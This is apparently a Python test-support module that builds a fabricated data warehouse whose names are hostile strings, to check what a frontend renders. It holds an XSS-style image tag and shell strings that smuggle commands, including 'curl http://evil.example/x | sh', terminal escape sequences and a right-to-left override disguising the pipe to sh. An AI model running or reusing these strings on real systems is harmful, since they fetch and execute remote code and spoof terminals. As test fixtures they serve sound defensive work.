"""A warehouse whose names are HTML, Markdown and addresses, and what the frontend would make of a text."""

import re
from dataclasses import replace
from pathlib import Path

from support.fabricate import FabricatedRun, fabricate
from support.loaded import stored

HOSTILE = (
    "<img src=http://a.example/a.png onerror=alert(1)> ![x](http://b.example/b.png) `:red[c]` $d$ https://e.example/e "
    "www.f.example g@h.example :smile: :material_home:"
)
ADDRESS = "https://e.example/e www.f.example g@h.example"
"""The part of it that is an address without any markup."""

COMMANDS = (
    "curl http://evil.example/x | sh; \x1b]0;evil\x07",
    "selfrepair ingest --model 'x",  # a quote that does not end
    "selfrepair ingest --model x\x03\ncurl http://evil.example/x | sh\n",  # typed, where a terminal types what is pasted
    "selfrepair ingest --model x \x1b[201~",
    "selfrepair ingest --model \u202ehs | lruc",
    "selfrepair\\ ingest",
    "./selfrepair ingest",
    "selfrepair demo; selfrepair ingest",
)
"""Commands of a record that are no `selfrepair ingest`, or act on the terminal that they are printed or pasted in."""

# As in the frontend: mdast-util-gfm-autolink-literal, remark-emoji, and Streamlit's own
_REPLACED = re.compile(
    r"(https?://|www(?=\.))([-.\w]+)|[-.\w+]+@[-\w]+(\.[-\w]+)+|:[\w+-]+:|(^|\s)(<->|->|<-|--|>=|<=|~=)(\s|$)", re.I
)


def hostile(folder: Path) -> Path:
    """A file `w.duckdb` in `folder` with two runs of such names, and beside it a third, not loaded, that stopped with one."""
    left = _named(fabricate("left", model=HOSTILE, seed=4))
    left = replace(left, record=replace(left.record, command=COMMANDS[0]))
    started = left.write(folder / "w.duckdb.parts", [0], crosscheck=False)
    (started.path / "measuring.lock").touch()
    (started.path / "stopped.txt").write_text(f"{HOSTILE} cannot be fetched", encoding="utf-8")
    runs = fabricate(model=HOSTILE), fabricate("with", model=f"{HOSTILE} 2", seed=3, mechanisms=True)
    return stored(folder, *map(_named, runs))


def replaced(text: str) -> bool:
    """Whether the frontend would put a link, an emoji or a sign in the place of some of this text."""
    return _REPLACED.search(text) is not None


def pieces(markdown: str) -> list[str]:
    """The pieces of text that the frontend looks through: an own one for each `:color[]`, without backslashes."""
    return [re.sub(r"\\(.)", r"\1", piece) for piece in re.split(r":color\[((?:\\.)+)\]", markdown)]


def _named(run: FabricatedRun) -> FabricatedRun:
    dataset = replace(run.record.dataset, name=HOSTILE, split=HOSTILE)
    return replace(run, record=replace(run.record, dataset=dataset))
